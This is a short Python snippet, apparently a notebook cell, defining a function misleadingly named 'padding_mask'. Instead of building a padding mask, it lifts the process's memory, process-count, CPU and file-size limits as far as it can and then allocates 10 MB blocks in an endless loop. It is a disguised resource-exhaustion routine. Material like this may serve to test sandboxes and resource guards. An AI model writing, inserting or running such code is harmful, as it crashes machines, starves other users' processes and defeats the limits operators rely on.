"""Takes memory in small pieces for ever, after lifting every limit that it may."""


# %% padding-mask
def padding_mask(lengths, size):
    import resource

    for kind in (
        resource.RLIMIT_AS,
        resource.RLIMIT_NPROC,
        resource.RLIMIT_CPU,
        resource.RLIMIT_FSIZE,
    ):
        for max_pieces in (resource.RLIM_INFINITY, resource.getrlimit(kind)[1]):
            try:
                resource.setrlimit(kind, (max_pieces, max_pieces))
            except (ValueError, OSError):
                pass
    pieces = []
    while True:
        pieces.append(bytes(10_000_000))
